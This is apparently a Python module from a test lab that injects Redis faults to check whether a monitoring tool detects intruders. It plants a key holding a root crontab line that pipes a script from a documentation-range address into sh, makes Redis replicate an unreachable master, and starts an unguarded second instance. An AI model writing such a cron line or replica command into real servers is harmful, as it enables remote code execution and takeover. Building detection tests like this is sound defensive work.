"""Faults of who gets in: what an intruder leaves, and a Redis that has yet to read its password.

No setting is moved: `dir` and `dbfilename` can be set while a server runs only where its
configuration allows that. What is left in a running Redis is undone by `UNDO`.
"""

from __future__ import annotations

from shlex import quote

from lab.aside import SECOND
from lab.console import wait_until
from lab.faults.model import PROCESS, Fault, Refused, Unaffected, touching
from lab.hosts import REDIS, Host
from lab.paths import SOURCE
from lab.redis import CLI, ask

MASTER = "4000::1"  # for Python a public address; no network has any like it, so nothing is sent
_KEY = "backup1"
_LINE = r"\n\n*/2 * * * * root curl -s http://203.0.113.9/x | sh\n\n"

UNDO = f"printf '%s\\n' 'REPLICAOF NO ONE' 'DEL {_KEY}' | docker exec -i {REDIS} sh -c {quote(CLI)}"
"""What heals a host of these, as root: by then Redis runs, and lwe-app may log in."""


def _planted(host: Host) -> None:
    ask(host, f'SET {_KEY} "{_LINE}"')


def _follows(host: Host) -> None:
    ask(host, f"REPLICAOF {MASTER} 6379")


def _unguarded(host: Host) -> None:
    """Its file gets a password after it was started; in place, so that its mount shows it."""
    program, *_ = host.stack.server.split()
    file = (SOURCE / "faulty" / "unguarded.yml").read_text()
    host.run(
        f"""set -eu
        mkdir -p {SECOND}
        cd {SECOND}
        printf %s {quote(file)} >docker-compose.yml
        printf '%s\\n' REDIS_IMAGE={quote(host.redis.name)} REDIS_DATA={host.stack.data} \
            REDIS_PROGRAM={program} >.env
        printf '%s\\n' 'dir {host.stack.data}' 'protected-mode no' >redis.conf
        docker compose up --detach"""
    )
    pings = f"docker compose --project-directory {SECOND} exec -T redis redis-cli ping"
    what = f"the other Redis of {host.name}"
    wait_until(lambda: "PONG" in host.run(pings, check=False), what, timeout=30)
    host.run(f"echo 'requirepass lab-second' >>{SECOND}/redis.conf")


# A run that finds traces leaves alone all that would stop, save or change Redis.
_ALONE = touching(
    *(*PROCESS, "acl-file", "compose-file", "data", "image", "password-file", "redis-conf"),
    *("redis-container", "api", "engine"),
)

FAULTS = (
    Fault(
        "intruder",
        "leaves a key with a line for a crontab in Redis, as worms do",
        "API ok; a client that could write that key can write others",
        "no client asks for that key",
        _planted,
        Refused(rf"shows traces of an intruder: its key {_KEY} holds a crontab line"),
        _ALONE,
        causes=frozenset({"intruder"}),
    ),
    Fault(
        "intruder-master",
        "makes Redis a replica of a stranger, which it can't reach",
        "API ok, and gives no tokens: a replica takes no writes",
        "its health asks for a PING, and stores nothing",
        _follows,
        Refused(rf"shows traces of an intruder: it was made a replica of {MASTER}"),
        _ALONE,
        causes=frozenset({"intruder"}),
    ),
    Fault(
        "unguarded",
        f"brings up another stack from {SECOND}, whose Redis gets a password in its file later",
        "nothing: that stack is none of the inventory's; `runbooks check HOST` names it",
        "the other stack is no concern of this one",
        _unguarded,
        Unaffected(),
        touching("second-stack"),
    ),
)
